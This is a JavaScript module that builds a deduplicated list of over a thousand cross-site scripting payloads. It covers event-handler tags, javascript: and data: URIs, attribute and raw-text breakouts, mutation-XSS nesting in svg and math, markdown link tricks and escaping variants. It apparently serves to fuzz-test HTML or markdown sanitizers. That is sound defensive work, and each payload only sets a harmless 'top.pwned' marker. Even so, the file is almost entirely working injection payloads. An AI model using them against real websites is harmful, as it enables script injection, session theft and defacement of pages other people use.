// Payloads that try to become markup or script wherever a page's text ends up, made by rules: what strikes, how it is written, what
// it breaks out of, and how often it is escaped. The same list at every run.

/** What a payload runs if it comes alive. */
export const strike = 'top.pwned=1';

/** Something that runs `strike`, as [element, attributes, content]. */
const weapons = [
  ...[['img', 'onerror', 'src=x'], ['svg', 'onload', ''], ['body', 'onload', ''], ['video', 'onerror', 'src=x'], ['audio', 'onloadstart', 'src=x'], ['input', 'onfocus', 'autofocus'],
    ['details', 'ontoggle', 'open'], ['iframe', 'onload', 'src=about:blank'], ['object', 'onerror', 'data=x'], ['marquee', 'onstart', ''], ['p', 'onpointerover', 'style=position:fixed;inset:0'],
    ['style', 'onload', ''], ['select', 'onfocus', 'autofocus'], ['x-tag', 'onanimationstart', 'style=animation:a'], ['dialog', 'onclose', 'open'], ['portal', 'onload', 'src=x']]
    .map(([name, event, more]) => [name, [more, [event, strike]].filter(Boolean), '']),
  ...['href', 'xlink:href'].flatMap((name) => ['a', 'area', 'use', 'math'].map((element) => [element, [[name, `javascript:${strike}`]], 'x'])),
  ['form', [['action', `javascript:${strike}`]], '<button>go</button>'],
  ['button', [['formaction', `javascript:${strike}`]], 'go'],
  ['iframe', [['src', `javascript:${strike}`]], ''],
  ['iframe', [['srcdoc', `<script>${strike}</script>`]], ''],
  ['object', [['data', `data:text/html,<script>${strike}</script>`]], ''],
  ['embed', [['src', `data:image/svg+xml,<svg onload=${strike}>`]], ''],
  ['base', [['href', 'javascript:/a/-']], ''],
  ['meta', ['http-equiv=refresh', ['content', `0;url=javascript:${strike}`]], ''],
  ['link', ['rel=stylesheet', ['href', `data:text/css,*{background:url(javascript:${strike})}`]], ''],
  ['script', [], strike],
  ['script', [['src', `data:text/javascript,${strike}`]], ''],
  ['style', [], `@import 'javascript:${strike}';*{behavior:url(x)}`],
  ['svg', [], `<script>${strike}</script>`],
  ['svg', [], `<animate attributeName=href values=javascript:${strike} /><a><text>x</text></a>`],
  ['svg', [], `<set attributeName=onmouseover to=${strike}>`],
  ['template', [], `<img src=x onerror=${strike}>`],
  ['noscript', [], `<img src=x onerror=${strike}>`],
];

/** How a tag is spelled. */
const spellings = [
  { gap: ' ', quote: '"' }, { gap: ' ', quote: "'" }, { gap: '/', quote: '' }, { gap: '\t', quote: '' }, { gap: '\n', quote: '"' }, { gap: '\f', quote: "'" }, { gap: ' ', quote: '`' },
  { gap: ' ', quote: '"', open: true }, { gap: ' ', quote: '', upper: true }, { gap: '/x=1 ', quote: '"', upper: true, open: true }, { gap: ' a="<b>" ', quote: '"' },
];

function write([name, attributes, content], { gap, quote, open, upper }) {
  const parts = attributes.map((each) => {
    if (typeof each === 'string') return each;
    const [key, value] = each;
    return `${upper ? key.toUpperCase() : key}=${quote}${quote === '"' ? value.replaceAll('"', '&quot;') : value.replaceAll("'", '&#39;')}${quote}`;
  });
  const tag = upper ? [...name].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join('') : name;
  const start = `<${[tag, ...parts].join(gap)}`;
  return open ? start : `${start}>${content}</${tag}>`;
}

/** What the text may have been put into: attributes, raw text, comments, other languages. */
const exits = ['', '">', "'>", '`>', '" x="', "' x='", '-->', '--!>', '<!-->', ']]>', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</iframe>', '</svg>', '</math>', '</p></article>',
  '\\">', '\\\\"\'>', '?>', '%>', '\u2028', '\n\n', '](', '`\n\n', '```\n', '[^1]: ', '> ', '--- \n---\n', '*/', '{{', '&quot;>', '\u0000', '\ufeff'];

/** Where one parser goes in and another one comes out. */
const roots = ['svg', 'math', 'form><math', 'table><math', 'select><template', 'svg><foreignObject', 'noembed', 'xmp', 'plaintext'];
const points = ['mtext', 'annotation-xml encoding=text/html', 'desc', 'title', 'mtext><table><mglyph', 'mtext></form><form><mglyph', 'p', 'mi><malignmark'];
const raws = ['style', 'textarea', 'title', 'noscript', 'xmp', 'iframe', 'noframes', 'script', '!--'];

function* mutations() {
  const hit = `<img src=x onerror=${strike}>`;
  let turn = 0;
  for (const root of roots) {
    for (const point of points) {
      for (const raw of raws) {
        const end = raw === '!--' ? '-->' : `</${raw}>`;
        turn += 1;
        yield turn % 2 === 0 ? `<${root}><${point}><${raw}><a id="${end}${hit}">` : `<${root}><${point}><${raw}><!--${end}<p title="-->${hit}">`;
      }
    }
  }
}

/** How an address hides its scheme. */
export function addresses() {
  const script = `javascript:${strike}`;
  const hides = [
    (it) => it, (it) => it.toUpperCase(), (it) => ` ${it}`, (it) => `\t\n${it}`, (it) => `\u0001${it}`, (it) => `\u00a0${it}`, (it) => `\ufeff${it}`, (it) => it.replace('s', 's\t'), (it) => it.replace('a', 'a\n'),
    (it) => it.replace(':', '\t:'), (it) => it.replace(':', '&colon;'), (it) => it.replace('j', '&#106;'), (it) => it.replace('j', '&#x6A'), (it) => it.replace('j', '%6a'), (it) => it.replace('s', '\\u0073'),
    (it) => it.replace('j', '\u0000j'), (it) => it.replace(':', '：'), (it) => it.replace('java', 'ｊava'), (it) => `https://a.example/\n${it}`, (it) => `${it}//https://a.example/`, (it) => `//${it}`,
    (it) => `https:${it}`, (it) => `http:/${it}`, (it) => `mailto:${it}`, (it) => `view-source:${it}`, (it) => `feed:${it}`, (it) => `blob:${it}`, (it) => `\\\\${it}`, (it) => `?${it}`, (it) => `#${it}`,
  ];
  const others = [`data:text/html,<script>${strike}</script>`, `data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${strike}>`, 'vbscript:x', 'livescript:x', 'file:///etc/passwd', 'filesystem:http://a/x',
    'about:blank', 'chrome://settings', 'resource://x', 'moz-extension://x/y', 'intent://x#Intent;end', 'ftp://a.example/', 'ws://a.example/', 'tel:1', 'https://a.example/" onmouseover="top.pwned=1', "https://a.example/' onmouseover='top.pwned=1",
    'https://a.example/><img src=x onerror=top.pwned=1>', 'https://a.example/)[x](javascript:top.pwned=1)', 'https://a.example/\\)[x](javascript:top.pwned=1', 'https://javascript:top.pwned=1@a.example/', 'https://a.example/`<script>', 'https://', 'https://[', 'http://%00/', 'https:///', 'https://a.example\\@b.example/'];
  return [...hides.map((hide) => hide(script)), ...hides.map((hide) => hide('data:text/html,x')), ...others];
}

/** Markdown that is markup where HTML is not: links, images, fences, notes, front matter. */
function* markdowns() {
  for (const address of ['javascript:top.pwned=1', 'data:text/html,x', '<javascript:top.pwned=1>', 'JaVaScRiPt:top.pwned=1', 'javascript&colon;top.pwned=1', 'vbscript:x']) {
    yield* [`[x](${address})`, `![x](${address})`, `[x]: ${address}`, `[x][y]\n\n[y]: ${address}`, `<${address}>`, `[a](https://a.example "b](${address})")`, `\\[x](${address})`, `\\\\[x](${address})`, `\`[x](${address})\``, `[![x](${address})](${address})`];
  }
  yield* ['```\n<script>top.pwned=1</script>\n```', '~~~\n<img src=x onerror=top.pwned=1>', '`` ` ``<img src=x onerror=top.pwned=1>', '    <img src=x onerror=top.pwned=1>', '| a | b |\n|---|---|\n| <img src=x onerror=top.pwned=1> |', '# x\n===\n<script>top.pwned=1</script>',
    '"\ntitle: "x', '---\ntitle: x\n---\n<script>top.pwned=1</script>', '[^1]: <img src=x onerror=top.pwned=1>', '[^1]', '- [ ] <script>top.pwned=1</script>', '$\\href{javascript:top.pwned=1}{x}$', '<!-- x --> <script>top.pwned=1</script>', '\\<script>top.pwned=1</script>', '\\\\<script>top.pwned=1</script>', '*<img src=x onerror=top.pwned=1>*', '[[x]] ![[y]] %%z%%', '<% top.pwned=1 %>'];
}

const escapes = [
  (text) => text,
  (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60').replaceAll('>', '&#x3e'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '<\u0000').replaceAll('=', '\u0000='),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '<<').replaceAll('>', '>>'),
];

/** All of them, each once: well over a thousand. */
export function payloads() {
  const all = [];
  weapons.forEach((weapon, w) => {
    spellings.forEach((spelling, s) => {
      const text = write(weapon, spelling);
      // Every weapon in every spelling; exits and escapes in turn, so that each pair of them comes about.
      all.push(text, escapes[(w + s) % escapes.length](exits[(w * 7 + s * 3) % exits.length] + text));
    });
  });
  for (const exit of exits) all.push(`${exit}<img src=x onerror=${strike}>`, `${exit}<script>${strike}</script>`);
  for (const escape of escapes) all.push(escape(`<svg/onload=${strike}>`), escape(escape(`<svg/onload=${strike}>`)));
  all.push(...mutations(), ...markdowns(), ...addresses());
  return [...new Set(all)];
}
